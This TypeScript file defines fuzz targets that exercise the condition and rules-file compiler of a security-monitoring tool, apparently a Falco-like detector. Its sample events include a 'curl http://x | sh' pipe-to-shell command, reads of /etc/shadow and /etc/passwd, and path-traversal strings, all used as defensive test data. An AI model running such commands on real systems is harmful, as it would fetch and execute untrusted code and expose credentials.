/**
 * Fuzz targets for the rules library: conditions (as `lanner capture --filter` and rule
 * conditions take them) and whole rules files (as `lanner rules validate` loads them).
 */
import type { FieldValue } from "../../src/rules/compiler.js";
import { formatDiagnostic, type Diagnostic } from "../../src/rules/diagnostics.js";
import { compileFilter } from "../../src/rules/filter.js";
import { loadRules, type LoadResult } from "../../src/rules/loader.js";
import { ObjectFieldReader } from "../../src/rules/object-reader.js";
import { defineTarget, type Outcome, type Rng } from "./harness.js";
import { generateRulesFile, loadSeeds, mutateCondition, randomCheck } from "./seeds.js";

/** Events the accepted conditions are evaluated against: ordinary values and long, hostile ones. */
const LONG = "a".repeat(300);
const EVENTS: readonly { readonly type: string; readonly fields: Record<string, FieldValue> }[] = [
  {
    type: "execve",
    fields: {
      "proc.name": "bash",
      "proc.cmdline": "bash -c curl http://x | sh",
      "proc.args": "-c curl http://x | sh",
      "proc.exepath": "/usr/bin/bash",
      "proc.pname": "sshd",
      "proc.aname": ["sshd", "systemd"],
      "proc.aname[2]": "systemd",
      "fd.name": "/etc/shadow",
      "fd.num": 3,
      "fd.sip": "10.1.2.3",
      "evt.rawres": 0,
      "user.name": "root",
      "user.uid": 0,
      "evt.arg.flags": "O_RDONLY",
    },
  },
  {
    type: "openat",
    fields: {
      "proc.name": LONG,
      "proc.cmdline": `${LONG} ${"-x ".repeat(300)}`,
      "proc.args": LONG + "b",
      "proc.exepath": "/" + "a/".repeat(400) + "../".repeat(100),
      "proc.pname": "[[[[",
      "proc.aname": Array.from({ length: 20 }, () => LONG),
      "fd.name": "/" + LONG + "/../../etc/passwd",
      "fd.nameraw": "../".repeat(500),
      "fd.num": -1,
      "fd.sip": "fe80::1",
      "user.name": "\u00e9\u202e\ud83d\ude00",
      "evt.buffer": new Uint8Array(4096).fill(0x61),
    },
  },
];

function checkDiagnostics(diags: readonly Diagnostic[], text: string): void {
  const lines = text.split("\n").length;
  for (const d of diags) {
    const f = formatDiagnostic(d);
    if (
      !(d.line >= 1 && d.line <= lines + 1 && d.col >= 1) ||
      d.message === "" ||
      /\bundefined\b(?! (macro|list) ')|NaN|\[object /.test(d.message)
    )
      throw new Error(`malformed diagnostic: ${f}`);
  }
}

function evaluate(predicate: (ev: ObjectFieldReader, t: string) => boolean): void {
  for (const ev of EVENTS) {
    const v = predicate(new ObjectFieldReader(ev.fields), ev.type);
    if (typeof v !== "boolean") throw new Error(`a condition returned ${typeof v}`);
  }
}

let context: LoadResult | undefined;
/** Macros and lists of the seed rules files, for conditions that use them. */
function seedContext(): LoadResult {
  const seeds = loadSeeds();
  return (context ??= loadRules(seeds.files.map((f) => ({ name: f.name, text: f.text }))));
}

export const conditionsTarget = defineTarget<string>({
  name: "conditions",
  description:
    "condition strings through parse, bind (with the seed rules' macros and lists), compile and evaluate",
  prepare() {
    seedContext();
  },
  generate(rng: Rng): string {
    const seeds = loadSeeds();
    const base = rng.chance(0.85) ? rng.pick(seeds.conditions) : randomCheck(rng);
    return rng.chance(0.1) ? base : mutateCondition(rng, base, seeds.conditions);
  },
  run(text: string): Outcome {
    const ctx = seedContext();
    const r = compileFilter(text, { file: "<fuzz>", macros: ctx.macros, lists: ctx.lists });
    if (!r.ok) {
      if (r.diagnostics.length === 0) throw new Error("rejected without a diagnostic");
      checkDiagnostics(r.diagnostics, text);
      return "diagnosed";
    }
    evaluate(r.filter.predicate);
    return "accepted";
  },
  show: (s) => s,
});

export const rulesFilesTarget = defineTarget<string>({
  name: "rules-files",
  description:
    "whole YAML rules files through the loader (as `lanner rules validate`), accepted rules evaluated",
  prepare() {
    loadSeeds();
  },
  generate(rng: Rng): string {
    return generateRulesFile(rng, loadSeeds());
  },
  run(text: string): Outcome {
    const r = loadRules([{ name: "fuzz.yaml", text }]);
    checkDiagnostics(r.diagnostics, text);
    for (const c of r.compiled) evaluate(c.condition);
    return r.errors > 0 ? "diagnosed" : "accepted";
  },
  show: (s) => s,
});
